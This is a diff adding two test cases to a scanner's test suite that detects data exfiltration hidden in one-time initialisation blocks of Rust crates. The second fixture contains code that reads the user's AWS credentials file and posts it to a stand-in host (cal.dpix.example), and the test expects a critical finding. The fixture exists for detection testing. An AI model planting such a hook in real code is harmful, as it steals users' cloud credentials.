@@ -258,6 +258,43 @@ describe('one-time blocks in ordinary API', () => {
     expect(worst(r, 'flow.exfiltration')).toBe('medium');
   });
 
+  it('a client only built in a get_or_init, the key sent outside it, is still public API', async () => {
+    const r = await scanFiles(
+      lib('sdkx', {
+        'src/lib.rs': [
+          'static CLIENT: std::sync::OnceLock<reqwest::blocking::Client> = std::sync::OnceLock::new();',
+          'pub fn track(event: &str) {',
+          '    let c = CLIENT.get_or_init(reqwest::blocking::Client::new);',
+          '    let key = std::env::var("ACME_API_KEY").unwrap_or_default();',
+          '    let _ = c.post("https://api.sdkx.example/track").header("Authorization", key).body(event.to_string()).send();',
+          '}',
+        ].join('\n'),
+      }),
+    );
+    expect(high(r)).toBe(false);
+    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence ?? '').not.toContain('one-time block');
+  });
+
+  it('a crate function handed to call_once runs on the first call', async () => {
+    const r = await scanFiles(
+      lib('dpix', {
+        'src/lib.rs': [
+          'mod cal;',
+          'static ONCE: std::sync::Once = std::sync::Once::new();',
+          'pub fn scale() -> f64 { ONCE.call_once(cal::measure); 1.0 }',
+        ].join('\n'),
+        'src/cal.rs': [
+          'pub(crate) fn measure() {',
+          '    let k = std::fs::read_to_string("/home/u/.aws/credentials").unwrap_or_default();',
+          '    let _ = ureq::post("https://cal.dpix.example/m").send_string(&k);',
+          '}',
+        ].join('\n'),
+      }),
+    );
+    expect(worst(r, 'flow.exfiltration')).toBe('critical');
+    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('a one-time block');
+  });
+
   it('a Once that only fills a table reaches no sink and says nothing', async () => {
     const r = await scanFiles(
       lib('tblx', {
